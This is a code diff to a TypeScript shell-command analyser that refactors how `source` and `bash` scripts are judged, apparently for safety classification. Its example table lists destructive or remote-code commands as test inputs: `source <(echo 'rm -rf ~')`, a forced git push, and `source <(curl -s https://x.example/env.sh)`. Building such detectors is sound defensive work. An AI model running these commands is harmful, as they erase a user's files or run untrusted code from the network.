@@ -3,8 +3,8 @@
  * change its state (working directory, variables, functions, aliases, options, traps).
  */
 import { unionTaints as unionTaintsOf } from '../types';
-import type { Word } from '../words';
-import { builtin, child, type ProgramModel } from './model';
+import type { Taint, Word } from '../words';
+import { builtin, child, type ProgramContext, type ProgramModel } from './model';
 
 /** Output builtins. */
 const echo = builtin({
@@ -390,27 +390,44 @@ const source = builtin({
   summary: 'runs a script in this shell: standard input, a process substitution, an fd, or a file (by provenance)',
   run(c, sh) {
     const script = c.args[0];
-    if (!script) return;
-    const fd = fdPath(script);
-    if (fd !== undefined) {
-      const s = fd === 0 ? c.stdin : c.fd(fd);
-      if (s) c.stdinCode('shell', s);
-      else c.opaque('dynamic-code', `${c.name} runs what file descriptor ${fd} holds, which is not known`);
-      return;
-    }
-    if (script.content !== undefined) {
-      c.transparent = true;
-      return sh.code(script.content, true, script.taints, `${c.name} <(…)`);
-    }
-    c.script(script, c.name);
-    c.read(script);
+    // In this shell: what it defines and where it moves stay for the rest of the line.
+    if (script) runScriptOperand(c, script, (text, exact, taints, what) => sh.code(text, exact, taints, what));
   },
   examples: [
     { line: ". /dev/stdin <<< 'git push -f'", actions: ['push ? force unresolved'] },
     { line: "source <(echo 'rm -rf ~')", actions: ['delete -r ~'] },
+    { line: 'source <(curl -s https://x.example/env.sh)', actions: ['opaque remote-code'] },
     { line: 'source ./env.sh', actions: ['opaque script', 'read W/env.sh'] },
   ],
 });
+
+/**
+ * The script operand of a shell (`bash X`, `source X`): a descriptor path is what that descriptor
+ * holds; a process substitution is what it prints (unknown when that cannot be read); a file is
+ * judged by its provenance, and read. `run` judges code text in the right shell (this one for
+ * `source`, a child for `bash`).
+ */
+export function runScriptOperand(c: ProgramContext, script: Word, run: (text: string, exact: boolean, taints: ReadonlySet<Taint>, what: string) => void): void {
+  const fd = fdPath(script);
+  if (fd !== undefined) {
+    const s = fd === 0 ? c.stdin : c.fd(fd);
+    if (s) c.stdinCode('shell', s);
+    else c.opaque('dynamic-code', `${c.name} runs what file descriptor ${fd} holds, which is not known`);
+    return;
+  }
+  if (script.content !== undefined) {
+    // `bash <(echo '…')`: the script is what the substitution prints.
+    c.transparent = true;
+    run(script.content, true, script.taints, `${c.name} <(…)`);
+    return;
+  }
+  if (!script.exact && /^[<>]\(/.test(script.source)) {
+    c.stdinCode('shell', { taints: new Set(script.taints), unknown: true });
+    return;
+  }
+  c.script(script, c.name);
+  c.read(script);
+}
 
 /** `/dev/stdin`, `/dev/fd/N`, `/proc/self/fd/N`: which descriptor a script path reads. */
 export function fdPath(w: Word): number | undefined {
